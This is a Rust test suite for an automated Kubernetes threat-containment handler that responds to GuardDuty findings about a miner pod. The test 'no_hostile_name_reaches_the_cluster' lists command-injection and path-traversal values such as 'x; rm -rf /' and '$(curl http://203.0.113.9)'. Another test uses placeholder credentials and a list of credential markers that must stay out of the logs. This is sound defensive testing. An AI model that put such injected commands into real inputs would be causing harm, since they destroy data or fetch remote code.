//! What is shown before it is done, and what is never shown.

use anyhow::{Context as _, Result, ensure};
use day2_platform::cluster::LogInstance;
use day2_platform::sandbox::{Event, Outcome, Sandbox};
use day2_platform::world::miner::{DEPLOYMENT, NAMESPACE};
use serde_json::json;

use super::id;
use super::stand::{LONG, Mode, Stand, outcome_of};
use crate::dry_run::{differences, steps};
use crate::house::{json_files, read_json, root};

/// Observed first, then done: the plan of both is the same, and only the second changes anything.
pub(super) async fn what_observe_shows_is_what_auto_does_o11(stand: &mut Stand) -> Result<()> {
    let pod = stand.miner.pod.clone();
    let event = stand.finding(&pod, &id(51)).await?;
    let mark = stand.faults.mark();
    let mut observing = Sandbox::start(&stand.launch(Mode::Observe)).await?;
    let shown = observing.invoke(event.clone()).await?.answer()?;
    ensure!(outcome_of(&shown) == "planned", "{shown:#}");
    stand.nothing_was_changed(mark)?;
    let mut acting = Sandbox::start(&stand.launch(Mode::End)).await?;
    let done = acting.invoke(event).await?.answer()?;
    ensure!(outcome_of(&done) == "applied", "{done:#}");
    let planned = steps(&shown)?;
    ensure!(
        planned.len() >= 5,
        "label, policy, node, instance, workload: {planned:#?}"
    );
    let differences = differences(&shown, &done)?;
    ensure!(differences.is_empty(), "{differences:#?}");
    stand.as_before().await
}

/// Every sample, as it is and with the names of a living pod that `GuardDuty` has a finding of: the whole of the function runs,
/// and nothing is changed.
pub(super) async fn in_observe_no_sample_changes_anything_o11(stand: &mut Stand) -> Result<()> {
    let folder = root().join("events/threat-containment");
    let mut sandbox = Sandbox::start(&stand.launch(Mode::Observe)).await?;
    let pod = stand.miner.pod.clone();
    let living = stand.finding(&pod, &id(52)).await?;
    let mark = stand.faults.mark();
    let (mut words, samples) = (Vec::new(), json_files(&folder));
    for name in &samples {
        let sample = read_json(&folder.join(name)).map_err(anyhow::Error::msg)?;
        let event = Event::new(sample.to_string()).time_left(LONG);
        let word = match sandbox.invoke(event).await? {
            Outcome::Answer(answer) => outcome_of(&answer).to_owned(),
            Outcome::Error { kind, .. } => kind,
            other => anyhow::bail!("{name}: {other:?}"),
        };
        words.push(format!("{name}: {word}"));
    }
    let answer = sandbox.invoke(living).await?.answer()?;
    ensure!(outcome_of(&answer) == "planned", "{answer:#}");
    ensure!(samples.len() >= 15, "{words:#?}");
    stand
        .nothing_was_changed(mark)
        .with_context(|| format!("{words:#?}"))?;
    ensure!(stand.labelled().await?.is_empty(), "a pod is labelled");
    stand.as_before().await
}

/// Words that look like keys, in a log of the suspect. They go into the evidence, and nowhere else.
pub(super) async fn secrets_of_a_log_are_in_the_evidence_and_nowhere_else_e18(
    stand: &mut Stand,
) -> Result<()> {
    let key = "AKIAIOSFODNN7EXAMPLE";
    let token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJleGFtcGxlIn0.c2lnbmF0dXJl";
    let password = "password=correct-horse-battery";
    let lines = [key, token, password].map(str::as_bytes);
    let now = day2_platform::clock::now();
    stand
        .platform
        .cluster
        .pod_logs()
        .add(DEPLOYMENT, LogInstance::Current, now, &lines)?;
    let pod = stand.miner.pod.clone();
    let event = stand.finding(&pod, &id(53)).await?;
    let mut sandbox = Sandbox::start(&stand.launch(Mode::Auto)).await?;
    let answer = sandbox.invoke(event).await?.answer()?;
    ensure!(outcome_of(&answer) == "applied", "{answer:#}");
    let holds = |bytes: &[u8], word: &str| bytes.windows(word.len()).any(|part| part == word.as_bytes());
    let evidence = stand.evidence(&pod.uid).await?;
    let places = [
        ("the answer", answer.to_string().into_bytes()),
        ("our log", sandbox.log()?.into_bytes()),
        ("the reports", stand.reports().await?),
        (
            "the journal",
            format!("{:?}", stand.record(&pod).await?).into_bytes(),
        ),
    ];
    for word in [key, token, password, day2_platform::world::miner::LOG_MARK] {
        ensure!(
            evidence.iter().any(|(_, bytes)| holds(bytes, word)),
            "{word} is not in the evidence"
        );
        for (place, bytes) in &places {
            ensure!(!bytes.is_empty() && !holds(bytes, word), "{place} holds {word}");
        }
    }
    // Nor does our log hold what opens a door: the token of the cluster, a signature, a key of our own.
    let log = sandbox.log()?;
    for word in [
        "k8s-aws-v1.",
        "X-Amz-Signature",
        "X-Amz-Security-Token",
        "secret_access_key",
    ] {
        ensure!(!log.contains(word), "our log holds {word}");
    }
    stand.as_before().await
}

/// The same finding, updated, while the first delivery is at work: it joins, and the pod is cut off once.
pub(super) async fn an_update_while_the_pod_is_contained_joins_d04(stand: &mut Stand) -> Result<()> {
    use day2_platform::faults::{Fault, Gate, Rule};
    let pod = stand.miner.pod.clone();
    let event = stand.finding(&pod, &id(54)).await?;
    let (mut first, mut second) = (
        Sandbox::start(&stand.launch(Mode::End)).await?,
        Sandbox::start(&stand.launch(Mode::End)).await?,
    );
    let mark = stand.faults.mark();
    let held = Gate::new();
    let rule = Rule::new("s3:PutObject", Fault::HoldAfter(held.clone()));
    let rule = stand.faults.add(rule.on("manifest").nth(1));
    let pending = first.send(event)?;
    held.reached(LONG).await?;
    let updated = stand.updated(&pod, &id(54)).await?;
    let answer = second.invoke(updated).await?.answer()?;
    ensure!(outcome_of(&answer) == "suppressed", "{answer:#}");
    ensure!(stand.replicas().await? == 3, "the second one ended the workload");
    held.release();
    stand.faults.remove(rule);
    let answer = first.outcome(pending).await?.answer()?;
    ensure!(outcome_of(&answer) == "applied", "{answer:#}");
    for action in [
        "kubernetes:patch pods",
        "kubernetes:create networkpolicies",
        "kubernetes:patch deployments/scale",
        "sns:Publish",
    ] {
        let made = stand.accepted(mark, action);
        ensure!(made == 1, "{action}: {made} times");
    }
    let record = stand.record(&pod).await?;
    ensure!(record.noted == 1, "{} findings joined", record.noted);
    stand.as_before().await
}

/// What a hostile sender may put where a name belongs goes nowhere (`cases.md` E11): the cluster is not even asked.
pub(super) async fn no_hostile_name_reaches_the_cluster_e11(stand: &mut Stand) -> Result<()> {
    let mut sandbox = Sandbox::start(&stand.launch(Mode::Auto)).await?;
    let (pod, mark) = (stand.miner.pod.clone(), stand.faults.mark());
    let long = "a".repeat(300);
    let names = [
        "x; rm -rf /",
        "$(curl http://203.0.113.9)",
        "../../etc",
        "%2e%2e/",
        "Upper",
        "",
        "a\0b",
        "a\u{202e}b",
        &long,
    ];
    for (number, name) in (300..).zip(names) {
        for at in ["name", "namespace"] {
            let path = format!("/resource/kubernetesDetails/kubernetesWorkloadDetails/{at}");
            let event = Stand::changed(&pod, &id(number), (path.as_str(), json!(name)))?;
            let outcome = sandbox.invoke(event).await?;
            ensure!(
                matches!(&outcome, Outcome::Error { .. }),
                "{at} {name:?}: {outcome:?}"
            );
        }
    }
    let asked: Vec<String> = stand
        .faults
        .since(mark)
        .iter()
        .filter(|call| call.call.service == "kubernetes" || call.call.service == "s3")
        .map(|call| format!("{} {}", call.action(), call.call.resource))
        .collect();
    ensure!(asked.is_empty(), "{asked:?}");
    // And the same road with an honest name leads to the pod.
    let honest = stand.finding(&pod, &id(320)).await?;
    let answer = sandbox.invoke(honest).await?.answer()?;
    ensure!(outcome_of(&answer) == "applied", "{answer:#}");
    let at = format!("{NAMESPACE}/{}", pod.name);
    ensure!(
        stand
            .faults
            .writes_since(mark)
            .iter()
            .any(|call| call.call.resource == at)
    );
    stand.as_before().await
}
